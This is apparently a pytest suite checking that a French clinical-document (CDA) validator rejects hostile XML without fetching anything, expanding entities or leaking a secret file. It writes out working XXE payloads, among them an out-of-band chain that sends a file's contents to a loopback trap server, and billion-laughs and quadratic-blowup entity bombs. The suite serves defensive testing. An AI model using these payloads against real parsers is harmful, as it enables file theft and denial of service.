"""Hostile CDA documents: the validator never fetches anything, never expands entities into Saxon,
stays bounded, and always answers with a verdict (a finding) rather than an error.

External DTDs, parameter entities and out-of-band chains are pointed at a loopback HTTP server that
counts its hits and at a secret file: no hit, no secret in any output. The CLI keeps its exit codes
(0 conformant, 1 not, 2 usage problem or no verdict) for every input."""

from __future__ import annotations

import http.server
import re
import threading
import tracemalloc
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ci_sis import Validator
from ci_sis.cli import app

pytestmark = pytest.mark.conformance

VOLET = "DLU-EHPAD-DLU_2022.01"
SECRET = "TOPSECRET-4f1c"


@dataclass
class Trap:
    """A loopback HTTP server counting the requests it gets, and a secret file."""

    port: int
    secret: Path
    hits: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trap]:
    secret = tmp_path_factory.mktemp("secret") / "secret.txt"
    secret.write_text(SECRET)
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            body = f"<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1:{self.server.server_port}/x?%file;'>\">"
            self.send_response(200)
            self.send_header("Content-Type", "application/xml-dtd")
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield Trap(port=int(server.server_address[1]), secret=secret, hits=hits)
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def dlu(kit_dir: Path) -> bytes:
    return (kit_dir / "ExemplesCDA" / "DLU-EHPAD-DLU_2022.01.xml").read_bytes()


def _with_doctype(dlu: bytes, doctype: str, *, title_ref: str = "") -> bytes:
    head, sep, rest = dlu.partition(b"<ClinicalDocument")
    document = head + doctype.encode() + b"\n" + sep + rest
    if title_ref:
        document = document.replace(b"<title>", b"<title>" + title_ref.encode(), 1)
    return document


def _hostile(trap: Trap) -> dict[str, tuple[str, str]]:
    secret = trap.secret.as_uri()
    laughs = '<!ENTITY a0 "lol-lol-lol">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    quadratic = '<!ENTITY big "' + "x" * 50_000 + '">'
    return {
        "external DTD over HTTP": (f'<!DOCTYPE ClinicalDocument SYSTEM "{trap.url}/cda.dtd">', ""),
        "external DTD from a file": (f'<!DOCTYPE ClinicalDocument SYSTEM "{secret}">', ""),
        "public id + HTTP DTD": (f'<!DOCTYPE ClinicalDocument PUBLIC "-//X//Y" "{trap.url}/pub.dtd">', ""),
        "parameter entity over HTTP": (
            f'<!DOCTYPE ClinicalDocument [<!ENTITY % p SYSTEM "{trap.url}/p.dtd"> %p;]>',
            "",
        ),
        "parameter entity from a file": (f'<!DOCTYPE ClinicalDocument [<!ENTITY % p SYSTEM "{secret}"> %p;]>', ""),
        "out-of-band chain": (
            f'<!DOCTYPE ClinicalDocument [<!ENTITY % file SYSTEM "{secret}">'
            f'<!ENTITY % dtd SYSTEM "{trap.url}/oob.dtd"> %dtd; %all;]>',
            "&send;",
        ),
        "general external entity (file)": (f'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "{secret}">]>', "&x;"),
        "general external entity (HTTP)": (f'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "{trap.url}/x">]>', "&x;"),
        "billion laughs": (f"<!DOCTYPE ClinicalDocument [{laughs}]>", "&a9;"),
        "quadratic blowup": (f"<!DOCTYPE ClinicalDocument [{quadratic}]>", "&big;" * 2000),
        "internal entity in text": ('<!DOCTYPE ClinicalDocument [<!ENTITY nom "Dupont">]>', "&nom;"),
    }


HOSTILE_NAMES = [
    "external DTD over HTTP",
    "external DTD from a file",
    "public id + HTTP DTD",
    "parameter entity over HTTP",
    "parameter entity from a file",
    "out-of-band chain",
    "general external entity (file)",
    "general external entity (HTTP)",
    "billion laughs",
    "quadratic blowup",
    "internal entity in text",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_doctype_is_a_clean_finding_nothing_is_fetched(
    name: str, validator: Validator, dlu: bytes, trap: Trap
) -> None:
    doctype, ref = _hostile(trap)[name]
    document = _with_doctype(dlu, doctype, title_ref=ref)
    before = len(trap.hits)
    tracemalloc.start()
    try:
        report = validator.validate(document, VOLET)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert not report.ok
    assert [f.stage for f in report.findings] == ["xsd"]
    message = report.findings[0].message
    assert "DOCTYPE" in message or "entity" in message.lower()
    assert SECRET not in repr(report.to_dict())
    assert len(trap.hits) == before, trap.hits  # no request reached the loopback server
    assert peak < 64 * 1024 * 1024  # bounded: nothing was expanded


def _nested(dlu: bytes, depth: int) -> bytes:
    inner = b"<component><section><text>" + b"<paragraph>" * depth + b"x" + b"</paragraph>" * depth
    inner += b"</text></section></component>"
    return re.sub(rb"(<structuredBody[^>]*>)", lambda m: m.group(1) + inner, dlu, count=1)


@pytest.mark.parametrize("depth", [120, 1500, 5000])
def test_a_document_deeper_than_the_engine_reads_is_a_finding(validator: Validator, dlu: bytes, depth: int) -> None:
    report = validator.validate(_nested(dlu, depth), VOLET)  # no ValidationRunError: a verdict
    assert not report.ok
    assert [f.stage for f in report.findings] == ["xsd"]
    assert "deep" in report.findings[0].message


def test_the_kit_example_is_not_too_deep(validator: Validator, dlu: bytes) -> None:
    assert validator.validate(dlu, VOLET).ok


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("conformant", None, 0),
        ("doctype", "doctype", 1),
        ("billion-laughs", "laughs", 1),
        ("too-deep", "deep", 1),
        ("empty", b"", 1),
        ("not-xml", b"\x00\xff\xfe garbage", 1),
        ("invalid-utf8", b"<?xml version='1.0' encoding='UTF-8'?><ClinicalDocument>\xff\xfe</ClinicalDocument>", 1),
        ("utf16", "utf16", 1),
        ("wrong-root", b"<html/>", 1),
    ],
)
def test_cli_exit_codes_for_every_input(
    name: str, content: bytes | str | None, code: int, kit_dir: Path, dlu: bytes, trap: Trap, tmp_path: Path
) -> None:
    if content is None:
        data = dlu
    elif content == "doctype":
        data = _with_doctype(dlu, _hostile(trap)["out-of-band chain"][0], title_ref="&send;")
    elif content == "laughs":
        data = _with_doctype(dlu, _hostile(trap)["billion laughs"][0], title_ref="&a9;")
    elif content == "deep":
        data = _nested(dlu, 300)
    elif content == "utf16":
        data = "<?xml version='1.0' encoding='UTF-16'?><ClinicalDocument/>".encode("utf-16")
    else:
        assert isinstance(content, bytes)
        data = content
    path = tmp_path / f"{name}.xml"
    path.write_bytes(data)
    result = CliRunner().invoke(app, ["validate", str(path), "--volet", VOLET, "--kit", str(kit_dir), "--json"])
    assert result.exit_code == code, result.output
    assert SECRET not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_cli_usage_problems_exit_2(kit_dir: Path, dlu: bytes, tmp_path: Path) -> None:
    path = tmp_path / "dlu.xml"
    path.write_bytes(dlu)
    runner = CliRunner()
    assert runner.invoke(app, ["validate", str(tmp_path / "missing.xml"), "--volet", VOLET]).exit_code == 2
    assert runner.invoke(app, ["validate", str(tmp_path), "--volet", VOLET]).exit_code == 2
    assert runner.invoke(app, ["validate", str(path), "--volet", "NO-SUCH", "--kit", str(kit_dir)]).exit_code == 2
    assert runner.invoke(app, ["validate", str(path), "--volet", VOLET, "--kit", str(tmp_path)]).exit_code == 2


def test_cli_refuses_a_50_mb_file_without_reading_it_all(kit_dir: Path, tmp_path: Path) -> None:
    big = tmp_path / "big.xml"
    with big.open("wb") as out:
        out.truncate(50 * 1024 * 1024)  # sparse: 50 MB of NUL bytes
    tracemalloc.start()
    try:
        result = CliRunner().invoke(app, ["validate", str(big), "--volet", VOLET, "--kit", str(kit_dir)])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.exit_code == 2, result.output
    assert "larger than" in result.output
    assert peak < 40 * 1024 * 1024
    devzero = Path("/dev/zero")
    if devzero.exists():  # a device file has no size: the limit still holds
        result = CliRunner().invoke(app, ["validate", str(devzero), "--volet", VOLET, "--kit", str(kit_dir)])
        assert result.exit_code == 2
